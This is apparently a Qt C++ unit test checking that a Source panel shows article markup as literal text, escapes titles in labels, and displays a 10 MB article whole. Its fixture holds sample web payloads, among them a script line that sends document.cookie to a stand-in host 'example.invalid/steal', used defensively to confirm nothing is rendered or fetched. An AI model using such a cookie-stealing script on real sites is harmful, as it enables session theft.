// Article text is shown as text: markup in an article (an <img> with a remote source, a
// <script>, an entity, a link) reaches the Source panel verbatim and becomes no image, no
// anchor and no formatting, so nothing is interpreted and nothing is fetched. Markup in the
// header (title) is escaped in the rich-text header label. A 10 MB article is shown whole.

#include "atlas.h"
#include "selection.h"
#include "source_panel.h"

#include <QDir>
#include <QFile>
#include <QLabel>
#include <QPlainTextEdit>
#include <QTemporaryDir>
#include <QTextBlock>
#include <QTextDocument>
#include <QtTest>

#include "mini_atlas_copy.h"

using namespace corridor;

namespace {

const QByteArray kMarkupBody =
    "<img src=http://example.invalid/tracker.png>\n"
    "<script>fetch('http://example.invalid/steal?' + document.cookie)</script>\n"
    "Fish &amp; chips, <b>bold</b>, <a href=\"http://example.invalid/\">a link</a>, "
    "<style>body { background: url(http://example.invalid/bg.png) }</style>\n";

/// The mini atlas with its article's title and body replaced (the route's quote kept).
class MarkupAtlas : public test::MiniAtlasCopy {
public:
    MarkupAtlas(const QByteArray &title, const QByteArray &extraBody)
    {
        QByteArray text = originalArticle();
        text.replace("title: A small test article", "title: " + title);
        text += "\n" + extraBody;
        write(QString::fromLatin1(kArticle), text);
    }
};

} // namespace

class TestArticleText : public QObject {
    Q_OBJECT
private slots:
    void markupIsShownLiterally()
    {
        const MarkupAtlas folder("<img src=http://example.invalid/title.png> Pipeline <i>news</i>", kMarkupBody);
        const AtlasLoadResult loaded = loadAtlas(folder.path());
        QVERIFY(loaded.issues.isEmpty());
        Selection selection;
        SourcePanel panel(loaded.atlas, &selection);
        selection.selectRoute(QStringLiteral("alpha-beta"));
        QCOMPARE(panel.shownArticleId(), QStringLiteral("mini-article"));

        const QString shown = panel.articleView()->toPlainText();
        for (const QByteArray &line : kMarkupBody.split('\n'))
            QVERIFY2(shown.contains(QString::fromUtf8(line)), line.constData());

        // Nothing became an image, a link or formatting: every fragment is plain text.
        const QTextDocument *document = panel.articleView()->document();
        for (QTextBlock block = document->begin(); block.isValid(); block = block.next())
            for (auto it = block.begin(); !it.atEnd(); ++it) {
                const QTextCharFormat format = it.fragment().charFormat();
                QVERIFY2(!format.isImageFormat() && !format.isAnchor() && format.fontWeight() <= QFont::Normal,
                         qPrintable(it.fragment().text()));
            }

        // The rich-text labels (card, article header) escape the title: no tag reaches them.
        bool titleShown = false;
        for (const QLabel *label : panel.findChildren<QLabel *>()) {
            QVERIFY2(!label->text().contains(QLatin1String("<img")) && !label->text().contains(QLatin1String("<i>")),
                     qPrintable(label->text()));
            titleShown |= label->text().contains(QLatin1String("&lt;img src=http://example.invalid/title.png&gt;"));
        }
        QVERIFY(titleShown);
    }

    void tenMegabyteArticleIsShownWhole()
    {
        QByteArray filler;
        const QByteArray paragraph = "A long article paragraph with <script>markup</script> in it, repeated.\n\n";
        while (filler.size() < 10 * 1024 * 1024) filler += paragraph;
        const MarkupAtlas folder("Long article", filler);
        const AtlasLoadResult loaded = loadAtlas(folder.path());
        QVERIFY(loaded.issues.isEmpty());
        Selection selection;
        SourcePanel panel(loaded.atlas, &selection);
        selection.selectRoute(QStringLiteral("alpha-beta"));
        QCOMPARE(panel.articleView()->toPlainText().size(), loaded.atlas->articles.first().body.size());
    }
};

QTEST_MAIN(TestArticleText)
#include "test_article_text.moc"
